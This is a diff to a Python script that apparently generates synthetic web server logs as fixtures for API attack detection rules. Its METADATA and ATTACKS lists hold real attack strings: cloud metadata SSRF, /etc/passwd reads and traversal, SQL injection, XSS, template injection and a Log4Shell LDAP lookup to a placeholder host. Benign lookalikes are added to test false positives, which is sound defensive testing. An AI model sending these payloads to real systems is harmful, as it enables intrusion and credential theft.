@@ -367,6 +367,19 @@ def guesses_by_post():
     log.write("api1/above-baseline", "guesses-by-post")
 
 
+def checkouts(name, client, orders, agents):
+    """Forty people who order once or twice at noon, and one client that orders more."""
+    log = Log(117)
+    cart = lambda: f"/v1/carts/{uuid.UUID(int=log.rng.getrandbits(128), version=4)}"
+    for day in range(2):
+        for person in range(40):
+            for n in range(log.rng.randint(1, 2)):
+                log.add(at(12, 1, day=day) + person * 80 + n * 15, f"203.0.113.{person + 1}", f"{cart()}/checkout", 201, 700, "POST", APP)
+    for n in range(orders):
+        log.add(at(12, 2, day=1) + n * 3_300 / orders, client, f"{cart()}/checkout", 201, 700, "POST", agents[n % len(agents)])
+    log.write("api1/above-baseline", name)
+
+
 def pace_raised_by_half():
     log = Log(45)
     for day, n in enumerate([20, 30, 45]):
@@ -596,7 +609,107 @@ def device_code():
     log.write("api2/credential-stuffing", "device-waits-for-its-owner")
 
 
-# --- api7/metadata-host ---
+# --- api2/many-networks ---
+
+def users_verified(rule):
+    """Says beside the logs that the server has verified their users."""
+    (RULES / rule / "tests").mkdir(exist_ok=True)
+    (RULES / rule / "tests" / "tripline.toml").write_text(
+        '[[source]]\npath = "."\nclient = ["user", "client_ip"]\nuser_verified = true\n')
+
+
+def networks(n):
+    return f"{[192, 198, 203][n % 3]}.{[0, 51, 0][n % 3]}.{[2, 100, 113][n % 3]}.{10 + n}" if n < 3 else f"2001:db8:{n}::7"
+
+
+def key_is_sold():
+    users_verified("api2/many-networks")
+    log = Log(111)
+    for n in range(9):  # nine networks within forty minutes
+        for request in range(4):
+            log.add(at(10, 2 + 4 * n, request), networks(n), "/v1/orders", agent=APP, user="kim")
+    for n in range(40):
+        log.add(at(10, n), f"198.51.100.{n + 100}", "/v1/orders", agent=APP, user=f"user{n:02}")
+    log.write("api2/many-networks", "key-is-sold")
+
+
+def people_on_the_move():
+    log = Log(112)
+    for n in range(5):  # the train, the office, the telephone
+        for request in range(6):
+            log.add(at(8, 3 + 11 * n, request), networks(n), "/v1/orders", agent=APP, user="kim")
+    for n in range(12):  # whoever is refused may write any name
+        log.add(at(8, 30, n), networks(n), "/v1/orders", 401, 60, user="lee")
+        log.add(at(8, 40, n), networks(n), "/v1/products", 200, 900)
+    for hour in range(9, 12):  # machines of one network, and a fleet that grows
+        for n in range(60):
+            log.add(at(hour, n), f"192.0.2.{n + 1}", "/v1/stock", 200, 120, agent="lamps-sync/2.0", user="lamps")
+        for n in range([5, 8, 12][hour - 9]):
+            log.add(at(hour, n), networks(n), "/v1/stock", 200, 120, agent="fleet/1.0", user="fleet")
+    log.write("api2/many-networks", "people-on-the-move")
+
+
+# --- api3/answer-size ---
+
+def accounts(log, hour, day, size):
+    """Sixty people look at four accounts each."""
+    for n in range(240):
+        log.add(at(hour, day=day) + n * 14, f"198.51.100.{n % 60 + 1}", f"/v1/accounts/{log.rng.randrange(10_000_000)}", 200, size(log.rng), agent=APP)
+
+
+def more_fields():
+    log = Log(113)
+    for day, more in enumerate([1.0, 1.9, 1.9]):  # told once: what is longer on the second day is usual on the third
+        accounts(log, 12, day, lambda rng, more=more: int(more * rng.randint(400, 900)))
+    log.write("api3/answer-size", "more-fields")
+
+
+def texts_of_all_lengths():
+    log = Log(114)
+    for day, more in enumerate([1.0, 1.2, 0.5]):
+        accounts(log, 12, day, lambda rng, more=more: int(more * rng.lognormvariate(7, 1.2)))
+    for n in range(30):  # too few to say
+        for day, size in enumerate([400, 4_000, 40_000]):
+            log.add(at(12, n, day=day), f"203.0.113.{n + 1}", f"/v1/reports/{n}", 200, size, agent=APP)
+    for n in range(80):  # empty answers, and errors
+        for day in range(3):
+            log.add(at(12, n % 60, 30, day=day), f"203.0.113.{n + 1}", f"/v1/users/{n}/likes", 204, 0, "POST", APP)
+            log.add(at(12, n % 60, 31, day=day), f"203.0.113.{n + 1}", f"/v1/gone/{n}", 404, 100 * 9 ** day, agent=APP)
+    log.write("api3/answer-size", "texts-of-all-lengths")
+
+
+# --- api5/admin-newcomer ---
+
+def administrators(log, days):
+    for day in range(days):
+        residents(log, [12], people=10, day=day)
+        for n in range(4):
+            log.add(at(12, 10 * n, day=day), f"192.0.2.{40 + n % 2}", f"/v1/admin/refunds/{9_000 + n}", 200, 800, "POST")
+
+
+def tries_the_name():
+    log = Log(115)
+    administrators(log, 2)
+    log.add(at(12, 20, day=1), "203.0.113.7", "/v1/admin/refunds/9001", 403, 60, "POST", APP)
+    for n in range(3):
+        log.add(at(12, 21 + n, day=1), "203.0.113.7", f"/v1/Admin/users/{n}", 200, 800, agent=APP)
+    log.write("api5/admin-newcomer", "tries-the-name")
+
+
+def as_always():
+    lookup("api5/admin-newcomer", "routes", "route,sensitivity,deprecated", "/administration-guide,low,false")
+    log = Log(116)
+    administrators(log, 3)
+    for n in range(20):
+        log.add(at(12, n, day=1), f"198.51.100.{n + 1}", "/admin/login", 404 if n % 2 else 403, 150)
+        log.add(at(12, n, 2, day=1), f"198.51.100.{n + 1}", "/admin/", 200, 3_172)  # a page for everybody, whatever its name
+    log.add(at(12, 30, day=1), "203.0.113.9", "/administration-guide", 200, 9_000)
+    log.add(at(12, 31, day=1), "203.0.113.9", "/v1/admin/refunds", 204, 0, "OPTIONS")
+    log.add(at(12, 32, day=1), "203.0.113.9", "/blog/tags/sysadmin", 200, 9_000)
+    log.write("api5/admin-newcomer", "as-always")
+
+
+# --- api8/attack-strings ---
 
 METADATA = [
     "/v1/previews?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
@@ -604,22 +717,35 @@ METADATA = [
     "/v1/previews?url=HTTP%3a%2f%2fMetadata.Google.Internal%2fcomputeMetadata%2fv1%2f",
     "/v1/imports?source=file%3A%2F%2F%2Fetc%2Fpasswd",
 ]
+ATTACKS = [
+    "/v1/products/1%27%20OR%20%271%27=%271", "/search?q=1'+UNION+SELECT+null,version()--", "/v1/orders/7?sort=(select*from(select(sleep(20)))a)",
+    "/static/..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/bin/sh", "/download?file=....//....//etc/passwd", "/img?src=%252e%252e%252fwp-config.php",
+    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/v1/reviews?text=<svg/onload=alert(1)>",
+    "/v1/login?user=${jndi:ldap://203.0.113.66/a}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?name={{7*7}}",
+]
 
 
-def asked_to_fetch():
-    log = Log(96)
+def some_answered():
+    log = Log(98)
     for n, path in enumerate(METADATA):
         log.add(at(3, n), "192.0.2.200", path, 200, 1_400 + n)
-    log.write("api7/metadata-host", "asked-to-fetch")
+    for n, path in enumerate(ATTACKS * 3):  # one in three is answered
+        log.add(at(4, n), f"192.0.2.{201 + n % 3}", path, 404 if n % 12 % 3 else 200, 900 + n)
+    log.write("api8/attack-strings", "some-answered")
 
 
-def nothing_fetched():
-    log = Log(97)
-    for n, path in enumerate(METADATA):
-        log.add(at(3, n), "192.0.2.200", path, [400, 403, 502][n % 3], 90)
-    log.add(at(3, 10), "198.51.100.4", "/search?q=169.254.169.254", 200, 8_800)
-    log.add(at(3, 11), "198.51.100.4", "/v1/previews?url=https%3A%2F%2Fwww.example.com%2F169.254.169.254.html", 200, 2_100)
-    log.write("api7/metadata-host", "nothing-fetched")
+def nothing_answered():
+    log = Log(99)
+    for n, path in enumerate(METADATA + ATTACKS):
+        log.add(at(3, n), "192.0.2.200", path, [400, 404, 403, 502, 301][n % 5], 90, agent="Mozilla/5.0 (compatible; Nuclei - Open-source project)")
+    log.add(at(3, 40), "198.51.100.4", "/search?q=169.254.169.254", 200, 8_800)
+    for n, path in enumerate([
+        "/v1/previews?url=https%3A%2F%2Fwww.example.com%2F169.254.169.254.html", "/search?q=union+of+students", "/search?q=o%27brien+or+smith",
+        "/search?q=sleep+mask", "/c/scripts", "/v1/products?select=id,name&order=price", "/blog/javascript-alerts", "/search?q=rock+%26+roll+%3C3",
+        "/docs/etc/passwords.html", "/v1/files/report..final.pdf", "/search?q=%2250%25+off%22",
+    ]):
+        log.add(at(3, 41 + n), "198.51.100.4", path, 200, 2_100)
+    log.write("api8/attack-strings", "nothing-answered")
 
 
 # --- api8/probing ---
@@ -718,11 +844,16 @@ for make in [
     old_version_found, in_use_yesterday,
     page_after_page, staff_turns_pages,
     list_of_passwords, spraying, guessed_in_the_end, stale_password, office_signs_in, device_code,
-    asked_to_fetch, nothing_fetched,
+    key_is_sold, people_on_the_move,
+    more_fields, texts_of_all_lengths,
+    tries_the_name, as_always,
+    some_answered, nothing_answered,
     word_list, broken_release, broken_release_is_over, deleted_items, expired_session,
     served_secrets, single_page_app, refused_secrets,
 ]:
     make()
 # (the same of a route of which nothing is said would be quiet, then loud)
+checkouts("buys-it-all", "192.0.2.200", 80, [CHROME])
+checkouts("office-orders-lunch", "192.0.2.100", 25, BROWSERS)
 worth("wallets-are-worth-more", "wallets", 6)
 worth("cards-are-worth-little", "cards", 1)
